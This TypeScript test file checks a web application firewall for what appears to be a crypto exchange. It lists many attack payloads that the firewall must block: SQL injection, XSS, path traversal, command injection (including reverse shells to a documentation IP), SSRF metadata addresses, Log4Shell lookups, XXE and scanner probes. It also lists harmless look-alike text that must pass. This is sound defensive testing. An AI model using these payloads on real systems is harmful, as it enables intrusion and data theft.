// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${...}` here are literal Log4j lookups, the payloads under test.
import { describe, expect, it } from "vitest";
import { measureJson } from "../../../worker/waf/engine.ts";
import { asForm, asJson, asQuery, blocked, findings, ruleIds, type TestRequest } from "./helpers.ts";

/**
 * Each category: attacks that must be blocked, next to the legitimate look-alikes that must
 * pass. The full corpus (test/fixtures/waf) is checked in corpus.test.ts; these are the cases
 * a reader should see.
 */
const carriers: [string, (value: string) => TestRequest][] = [
  ["query", (value) => asQuery(value)],
  ["JSON", (value) => asJson(value)],
  ["form", (value) => asForm(value)],
];

function expectBlockedEverywhere(attacks: string[]) {
  for (const attack of attacks) {
    for (const [where, carrier] of carriers) {
      expect(blocked(carrier(attack)), `${where}: ${attack}`).toBe(true);
    }
  }
}

function expectPassesEverywhere(lookAlikes: string[]) {
  for (const text of lookAlikes) {
    for (const [where, carrier] of carriers) {
      const result = findings(carrier(text));
      expect(
        result.score,
        `${where}: ${text} -> ${result.matches.map((match) => match.ruleId)}`,
      ).toBeLessThan(5);
    }
  }
}

describe("SQL injection", () => {
  it("blocks break-outs, tautologies, UNION, stacked and time-based queries, through encodings", () => {
    expectBlockedEverywhere([
      "1' OR '1'='1",
      "' or 1=1--",
      "admin'--",
      "1 AND 5432=5432",
      "1 UNION SELECT NULL,NULL--",
      "1 UNION/**/SELECT/**/1,2",
      "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
      "ＵＮＩＯＮ　ＳＥＬＥＣＴ　１，２",
      "'; DROP TABLE users;--",
      "1' AND SLEEP(5) AND 'a'='a",
      "1;SELECT PG_SLEEP(5)--",
      "' UNION SELECT @@version -- ",
      "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    ]);
  });

  it("passes SQL-ish English", () => {
    expectPassesEverywhere([
      "select the best",
      "drop me a note",
      "union of savers",
      "Trade union select committee",
      "O'Brien",
      "it's O'Neill's, don't touch",
      "select * from my savings",
      "please delete from my list; thanks",
      "order by phone",
      "1=1 is always true",
      "He said 'or else' and left",
      "sleep (8 hours)",
      "-- do not use --",
    ]);
  });
});

describe("XSS", () => {
  it("blocks script tags, handlers, script URLs, DOM sinks, including encoded ones", () => {
    expectBlockedEverywhere([
      "<script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<svg/onload=alert`1`>",
      '"><script>alert(1)</script>',
      '" onmouseover="alert(1)',
      "javascript:alert(document.domain)",
      "jav&#x09;ascript:alert(1)",
      "%253Cscript%253Ealert(1)",
      "＜script＞alert(1)＜/script＞",
      "<iframe src=//evil.example>",
      "'-alert(1)-'",
      "{{constructor.constructor('alert(1)')()}}",
    ]);
  });

  it("passes HTML-ish text", () => {
    expectPassesEverywhere([
      "<3",
      "I <3 this wallet",
      "a < b > c",
      "x<y and y>z",
      "<= 1 BTC per week",
      "<b>bold</b> and <i>italic</i>",
      "javascript: the good parts",
      "confirm (yes/no) before sending",
      "price < script threshold",
      "switch online=true",
    ]);
  });
});

describe("path traversal and file inclusion", () => {
  it("blocks dot-dot sequences however encoded, system files and stream wrappers", () => {
    expectBlockedEverywhere([
      "../../../../etc/passwd",
      "..%2f..%2f..%2fetc%2fpasswd",
      "..%252f..%252fetc%252fhosts",
      "..\\..\\windows\\win.ini",
      "..\u2215..\u2215etc\u2215passwd",
      "/proc/self/environ",
      "php://filter/convert.base64-encode/resource=index.php",
      "file:///etc/passwd",
    ]);
  });

  it("blocks encoded traversal in the path itself", () => {
    expect(blocked({ url: "https://coinhubx.com/markets/..%252f..%252f..%252fetc%252fpasswd" })).toBe(true);
  });

  it("passes dots, slashes and paths in prose", () => {
    expectPassesEverywhere([
      "wait... ok",
      "50/50 split",
      "C:\\Users\\jo\\Documents",
      "see ../notes",
      "etc. etc.",
    ]);
  });
});

describe("command injection", () => {
  it("blocks chained commands, substitution, newlines, quoting tricks and reverse shells", () => {
    expectBlockedEverywhere([
      ";id",
      "| cat /etc/passwd",
      "&& whoami",
      "$(whoami)",
      "`id`",
      ";sleep 5;",
      "127.0.0.1%0acat%20/etc/passwd",
      ";w'h'o'am'i",
      ";cat${IFS}/etc/passwd",
      "; bash -i >& /dev/tcp/198.51.100.7/8080 0>&1",
      "; nc -e /bin/sh 198.51.100.7 4444",
      "cmd.exe /c whoami",
    ]);
  });

  it("passes punctuation and command words in prose", () => {
    expectPassesEverywhere([
      "AT&T",
      "Tom & Jerry's pot",
      "price; qty",
      "a | b",
      "cat & dog fund",
      "sleep 8h before trading",
      "ping me at 5",
      "echo chamber",
      "$(500) budget",
      "`backup` wallet",
      "id card; passport",
    ]);
  });
});

describe("SSRF", () => {
  const url = (value: string): TestRequest => asQuery(value, "redirectTo");
  const webhook = (value: string): TestRequest => asJson(value, "webhookUrl");

  it("blocks internal and metadata addresses in every encoding the URL parser accepts", () => {
    for (const address of [
      "http://127.0.0.1/",
      "http://localhost:8080/",
      "http://169.254.169.254/latest/meta-data/",
      "http://metadata.google.internal/computeMetadata/v1/",
      "http://[::1]/",
      "http://[::ffff:127.0.0.1]/",
      "http://[fd00::1]/",
      "http://2130706433/",
      "http://0x7f000001/",
      "http://0177.0.0.1/",
      "http://127.1/",
      "http://10.0.0.5:6379/",
      "http://172.16.0.10/",
      "http://192.168.1.1/",
      "http://127.0.0.1.nip.io/",
      "http://evil.example@127.0.0.1/",
      "http://127。0。0。1/",
      "gopher://127.0.0.1:6379/_INFO",
      "dict://127.0.0.1:11211/stat",
    ]) {
      expect(blocked(url(address)), address).toBe(true);
      expect(blocked(webhook(address)), address).toBe(true);
    }
    // A bare host in a parameter named like a URL.
    expect(blocked(asJson("169.254.169.254", "callbackHost"))).toBe(true);
  });

  it("passes public URLs, relative paths, and notes that mention localhost", () => {
    for (const value of [
      "https://coinhubx.com/security",
      "/security",
      "/wallet?mode=paper",
      "https://www.blockchain.com/explorer",
      "otpauth://totp/CoinHubX:jo%40example.com?secret=JBSWY3DPEHPK3PXP&issuer=CoinHubX",
      "//notes",
    ]) {
      expect(blocked(url(value)), value).toBe(false);
    }
    expect(blocked(asJson("dev note: http://localhost:8787 works", "label"))).toBe(false);
  });

  it("does not check headers: the site's own Referer in development is localhost", () => {
    expect(blocked({ headers: { referer: "http://localhost:8787/security" } })).toBe(false);
  });
});

describe("JNDI (log4shell)", () => {
  it("blocks lookups however nested or encoded, in any header", () => {
    for (const payload of [
      "${jndi:ldap://x.example/a}",
      "${${lower:j}ndi:ldap://x.example/a}",
      "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
      "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}",
      "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}",
      "${env:AWS_SECRET_ACCESS_KEY}",
      "＄｛ｊｎｄｉ：ｌｄａｐ：／／ｘ／ａ｝",
    ]) {
      expect(blocked({ headers: { "user-agent": payload } }), payload).toBe(true);
      expect(blocked({ headers: { "x-api-version": payload } }), payload).toBe(true);
      expect(blocked({ headers: { authorization: `Bearer ${payload}` } }), payload).toBe(true);
      expect(blocked(asJson(payload)), payload).toBe(true);
    }
    expect(blocked(asQuery("%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"))).toBe(true);
  });

  it("passes template-looking text", () => {
    expectPassesEverywhere(["${PAPER} fund", "costs ${amount}", "$5 {approx}"]);
  });
});

describe("XXE and content types", () => {
  it("blocks XML bodies and DTDs, and bodies in types no route parses", () => {
    const xml = '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY x SYSTEM "file:///etc/passwd">]><foo>&x;</foo>';
    expect(blocked({ headers: { "content-type": "application/xml" }, body: xml })).toBe(true);
    expect(blocked({ headers: { "content-type": "image/svg+xml" }, body: "<svg/>" })).toBe(true);
    expect(blocked(asJson(xml))).toBe(true);
    expect(blocked({ headers: { "content-type": "multipart/form-data; boundary=x" }, body: "--x--" })).toBe(
      true,
    );
    expect(blocked({ headers: { "content-type": "application/octet-stream" }, body: "\u0001" })).toBe(true);
  });

  it("passes JSON, forms, plain text and the JSON types with a suffix", () => {
    for (const contentType of [
      "application/json",
      "application/json; charset=utf-8",
      "application/merge-patch+json",
      "application/x-www-form-urlencoded;charset=UTF-8",
      "text/plain;charset=UTF-8",
    ]) {
      expect(blocked({ headers: { "content-type": contentType }, body: '{"a":"b"}' }), contentType).toBe(
        false,
      );
    }
    // A body with no content type is odd but not, alone, an attack.
    expect(blocked({ body: "{}" })).toBe(false);
  });
});

describe("scanners", () => {
  it("blocks attack-tool User-Agents, probe paths and callback domains", () => {
    for (const agent of [
      "sqlmap/1.8.11#stable (https://sqlmap.org)",
      "Mozilla/5.00 (Nikto/2.5.0)",
      "ZmEu",
      "Fuzz Faster U Fool v2.1.0",
    ]) {
      expect(blocked({ headers: { "user-agent": agent } }), agent).toBe(true);
    }
    for (const path of [
      "/.env",
      "/.env.production",
      "/.git/config",
      "/wp-admin/",
      "/wp-login.php",
      "/phpmyadmin/",
      "/.aws/credentials",
    ]) {
      expect(blocked({ url: `https://coinhubx.com${path}` }), path).toBe(true);
    }
    expect(blocked(asQuery("abc.oastify.com"))).toBe(true);
  });

  it("passes scripts, monitors and crawlers", () => {
    for (const agent of [
      "curl/8.7.1",
      "python-requests/2.32.3",
      "python-httpx/0.27.2",
      "Go-http-client/2.0",
      "PostmanRuntime/7.42.0",
      "Prometheus/2.55.1",
      "kube-probe/1.31",
      "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ]) {
      expect(blocked({ url: "https://coinhubx.com/healthz", headers: { "user-agent": agent } }), agent).toBe(
        false,
      );
    }
    for (const path of [
      "/.well-known/security.txt",
      "/environment",
      "/markets/BTC-GBP",
      "/_root.data",
      "/__manifest",
    ]) {
      expect(blocked({ url: `https://coinhubx.com${path}` }), path).toBe(false);
    }
  });
});

describe("protocol anomalies", () => {
  it("blocks unexpected methods, smuggling framing, oversized and malformed requests", () => {
    expect(blocked({ method: "TRACE" })).toBe(true);
    expect(blocked({ method: "PROPFIND" })).toBe(true);
    expect(blocked({ headers: { "content-length": "10", "transfer-encoding": "chunked" }, body: "{}" })).toBe(
      true,
    );
    expect(blocked({ headers: { "transfer-encoding": "chunked, identity" } })).toBe(true);
    expect(blocked({ headers: { "content-length": "5, 5" } })).toBe(true);
    expect(
      blocked({
        headers: Object.fromEntries(Array.from({ length: 120 }, (_, index) => [`x-${index}`, "1"])),
      }),
    ).toBe(true);
    expect(blocked({ headers: { "x-big": "a".repeat(9000) } })).toBe(true);
    expect(
      blocked({ headers: { "content-type": "application/json" }, body: `{"a":"${"x".repeat(70_000)}"}` }),
    ).toBe(true);
    expect(
      blocked({
        headers: { "content-type": "application/json" },
        body: `${"[".repeat(100)}${"]".repeat(100)}`,
      }),
    ).toBe(true);
    expect(blocked({ url: "https://coinhubx.com/markets?q=a%00b" })).toBe(true);
    expect(blocked({ url: "https://coinhubx.com/markets?q=%c0%ae%c0%ae" })).toBe(true);
    expect(
      blocked({ headers: { "content-type": "application/json" }, body: new Uint8Array([0x7b, 0xff, 0x7d]) }),
    ).toBe(true);
    expect(blocked({ headers: { "content-type": "application/json; charset=utf-7" }, body: "{}" })).toBe(
      true,
    );
    expect(
      blocked({ headers: { "content-type": "application/json", "content-encoding": "gzip" }, body: "x" }),
    ).toBe(true);
  });

  it("measures large JSON before parsing it, skipping what is inside strings", () => {
    const limits = { maxJsonDepth: 2, maxJsonNodes: 8 };
    expect(measureJson('{"a":"[[[[,,,,{{"}', limits)).toBe("ok");
    expect(measureJson('{"a":"x\\"[[[[,,,,"}', limits)).toBe("ok");
    expect(measureJson("[[[1]]]", limits)).toBe("too-deep");
    expect(measureJson("[1,2,3,4,5,6,7,8]", limits)).toBe("too-large");
    const wide = JSON.stringify(
      Object.fromEntries(Array.from({ length: 5000 }, (_, index) => [`k${index}`, index])),
    );
    expect(blocked({ headers: { "content-type": "application/json" }, body: wide })).toBe(true);
  });

  it("treats a lone weak anomaly as weak", () => {
    // A stray % in a hand-typed URL, or a method-override header, scores but does not block.
    expect(ruleIds({ url: "https://coinhubx.com/markets?q=100%" })).toEqual(["protocol-invalid-percent"]);
    expect(blocked({ url: "https://coinhubx.com/markets?q=100%" })).toBe(false);
    expect(blocked({ headers: { "x-http-method-override": "PUT" } })).toBe(false);
  });
});

describe("scoring", () => {
  it("scores each rule once per request, however often it matches", () => {
    const request: TestRequest = {
      url: `https://coinhubx.com/markets?${Array.from({ length: 10 }, (_, index) => `p${index}=%22hi%22%20or%20x%3D2`).join("&")}`,
    };
    const result = findings(request);
    expect(result.matches.filter((match) => match.ruleId === "sqli-boolean-after-quote")).toHaveLength(1);
    expect(result.score).toBe(3);
  });

  it("adds weak signals up to a block", () => {
    // A quote, then a boolean operator (3), then a comment after a quote (3).
    expect(ruleIds(asQuery("x' or y=z '--x"))).toEqual(
      expect.arrayContaining(["sqli-boolean-after-quote", "sqli-comment-after-quote"]),
    );
    expect(blocked(asQuery("x' or y=z '--x"))).toBe(true);
  });

  it("records where a rule matched, never what", () => {
    const result = findings(asJson("<script>alert('secret')</script>", "label"));
    expect(result.matches.map((match) => match.location)).toContain("body:label");
    expect(JSON.stringify(result)).not.toContain("secret");
  });
});

describe("exclusions", () => {
  const exclusions = [{ parameter: "label", categories: ["xss", "sqli"] as const, reason: "free text" }];

  it("switch categories off for the named parameter only", () => {
    const text = "<script>alert(1)</script> ' or 1=1--";
    expect(
      blocked({ ...asJson(text, "label"), exclusions: [{ ...exclusions[0]!, categories: ["xss", "sqli"] }] }),
    ).toBe(false);
    expect(
      blocked({ ...asJson(text, "note"), exclusions: [{ ...exclusions[0]!, categories: ["xss", "sqli"] }] }),
    ).toBe(true);
  });

  it("keep the other categories on for that parameter", () => {
    const excluded = [{ parameter: "label", categories: ["xss" as const], reason: "free text" }];
    expect(blocked({ ...asJson("${jndi:ldap://x/a}", "label"), exclusions: excluded })).toBe(true);
    expect(blocked({ ...asJson("' or 1=1--", "label"), exclusions: excluded })).toBe(true);
  });

  it("name nested JSON fields by dotted path, arrays by their field", () => {
    const excluded = [{ parameter: "params.notes", categories: ["xss" as const], reason: "free text" }];
    const body = JSON.stringify({ params: { notes: ["<script>a</script>", "<script>b</script>"] } });
    expect(blocked({ headers: { "content-type": "application/json" }, body, exclusions: excluded })).toBe(
      false,
    );
  });
});

describe("the outside corpus's missed classes (issue #15)", () => {
  it("blocks XSS through any event handler, optional chaining, concatenated eval, namespaced script", () => {
    expectBlockedEverywhere([
      "<x onbeforecopy=alert(1)>",
      "<div onbeforecut=alert(1)>",
      "<input onbeforeinput=alert(1) autofocus>",
      "<details onbeforetoggle=alert(1) open>",
      "<div oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
      "<body onpagereveal=alert(1)>",
      '" onbeforepaste="alert(1)',
      "confirm?.(document?.cookie)",
      "<img src=x onerror=eval('al'+'ert(1)')>",
      "window['al'+'ert'](document.domain)",
      "top[/al/.source+/ert/.source](1)",
      '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    ]);
  });

  it("blocks blind extraction, false conditions, decimal tautologies, INTO @, HAVING, glued literals, user variables", () => {
    expectBlockedEverywhere([
      "1 AND ascii(substr(version(),1,1))=51",
      "' AND 1=0--",
      "'or 123.22=123.22",
      "-1 UNION SELECT 1 INTO @,@",
      "' GROUP BY username HAVING 1=1--",
      ".1union/**/select/**/1,2",
      "1 and @a:=(select group_concat(user) from mysql.user)",
      "(select(@)from(select(@:=0x00),(select(@)from(information_schema.columns)where(@)in(@:=concat(@,0x3C62723E,table_name))))x)",
      " OR 1=1",
      "') or ('x')=('x",
    ]);
  });

  it("blocks empty-variable splitting, printf | rev, recon commands, binaries after a newline, SSI, PHP", () => {
    expectBlockedEverywhere([
      ";$u/bin$u/cat$u /etc$u/passwd",
      "c$@at /etc/passwd",
      "; printf 'dwssap/cte/ tac' | rev | sh",
      "& ipconfig /all",
      "; netstat -an",
      "| dir",
      "x\n/usr/bin/id",
      '<!--#exec cmd="/usr/bin/id"-->',
      ';{$_GET["cmd"]}',
    ]);
  });

  it("blocks doubled slashes, fullwidth dots, U+2216 and overlong UTF-8, in JSON strings too", () => {
    expectBlockedEverywhere([
      "....//....//etc//passwd",
      "/etc//passwd",
      "．．／．．／．．／etc／passwd",
      "..\u2216..\u2216..\u2216windows\u2216win.ini",
      "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
      "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    ]);
  });

  it("passes the prose it used to block: dashes after quoted words, commands in markdown", () => {
    expectPassesEverywhere([
      "Choose 'limit' or 'market' -- limit is cheaper.",
      "Run `python bot.py --symbol BTC-GBP` on my Pi.",
      'I ran `whoami` and it says "403" -- why?',
      "Use `--symbol ETH-GBP` not `--pair`.",
      "Steps:\n1. `ls -la logs/`\n2. `tail -f bot.log`",
      "```\nsudo systemctl restart bot\n```",
      "while True: time.sleep(60); rebalance()",
      "'sell' or 'sell all'? -- the app says 'sell' #BTC",
      "Bot 'grid-1' or 'dca-2'? print(f\"PnL: {pnl}\") -- fine",
      "C:\\Program Files\\Ledger Live",
      "Set grid 1=10 levels, 2=15 levels -- or is 1=1 enough?",
    ]);
  });
});

describe("the outside corpus's missed classes, second round (issue #15)", () => {
  it("blocks dot-dot paths whose separators or dots are spelled as no standard decoder reads them", () => {
    expectBlockedEverywhere([
      "..%%35%%63..%%35%%63etc%%35%%63passwd",
      "%2e%2e%%32%%66%2e%2e%%32%%66etc%%32%%66issue",
      "..2f..2f..2fetc2fpasswd",
      "..0x5c..0x5c..0x5cetc0x5cissue",
      ".?0x2f.?0x2f.?0x2fboot.ini",
      "..%bg%qf..%bg%qf..%bg%qfboot.ini",
      "%c0%2e%c0%2e%c0%5cetc%c0%5cpasswd",
      "..../%c1%pc..../%c1%pcboot.ini",
      "%f8%80%80%80%ae%f8%80%80%80%ae%c1%pcboot.ini",
      "%c0%fe%c0%fe0x2f%c0%fe%c0%fe0x2fboot.ini",
    ]);
  });

  it("blocks unknown-handler probes, command lines sent whole, eval of a command, template injection", () => {
    expectBlockedEverywhere([
      "<x onxxx=1",
      "<x%0Aonxxx=1",
      "<http://onxxx%3D1/",
      "whoami",
      "uname -a",
      "ls -l /etc/",
      "ipconfig /all",
      "dir C:\\Users",
      "net user hacker Password1 /ADD",
      "which python",
      "sleep 5",
      "' whoami",
      "eval('whoami');",
      "|usr/bin/id",
      "\\necho INJECTX\\nexit\\n",
      "{% for c in [1,2,3] %}{{c}}{% endfor %}",
      "{{''.__class__.__mro__}}",
      "C:\\WINDOWS\\TEMP\\",
      "c:/xampp/apache/conf/httpd.conf",
    ]);
  });

  it("blocks SQL statements, boolean literals, concatenation, NoSQL and LDAP filters", () => {
    expectBlockedEverywhere([
      "select @@servername",
      "select current_setting('data_directory');",
      "select * from master..sysservers",
      "' insert into users(login, password) values('a', 'b')",
      "'create user name identified by pass123",
      "create table myfile (input TEXT);",
      "IF(7423=7423) SELECT 7423 ELSE DROP FUNCTION xcjl--",
      " AND true",
      "or true--",
      "1-false",
      "1'||'asd'||'",
      "' AND id IS NULL; --",
      "' or (EXISTS)",
      " and user()=user()",
      "'test--",
      "--sp_password",
      "1\u2032) and '1\u2032='1",
      "', $where: '1 == 1'",
      "' && this.password.match(/.*/)//",
      "';return 'a'=='a' && ''=='",
      "db.injection.insert({success:1});",
      "*(|(mail=*))",
      "now()",
      "exec xp_cmdshell",
    ]);
  });

  it("passes what these rules come close to: prose, pasted code, paths, coordinates", () => {
    expectPassesEverywhere([
      "use <Chart data={x} onHover={fn} /> in React",
      "price <3 online=yes",
      "rm -rf node_modules fixed it",
      "Type /start to begin",
      "cat photos on my desk",
      "sleep 8 hours before trading",
      "which one is better?",
      "ls",
      '"ls" is short for list',
      "Create user account failed",
      "Update my email set to new one",
      "backup database daily to S3",
      "drop table of fees",
      "please select * from the list",
      "Inline: `SELECT * FROM trades WHERE symbol = 'BTC-GBP' ORDER BY time DESC` -- works",
      "x = a || 'b' || 'c'",
      "'Tis the season -- buy",
      "'#1 exchange' they said",
      "Office at 51°30′26″N 0°7′39″W",
      "v1..2 release notes",
      "fees went up 0.1%..0.2% this week",
      "C:\\Users\\me\\Downloads\\statement.csv was rejected",
      "BTC, ETH etc. group chat",
      "Add {{symbol}} and {{price}} to the alert text",
      "C:\\Windows is slow when the app runs",
      "/windows/download",
      "buy now()",
      "Bot 'buy-18' or 'buy-18'? I'd say 'buy'.\n#btc -- 'not financial advice'\n/* legacy */ address",
    ]);
  });
});
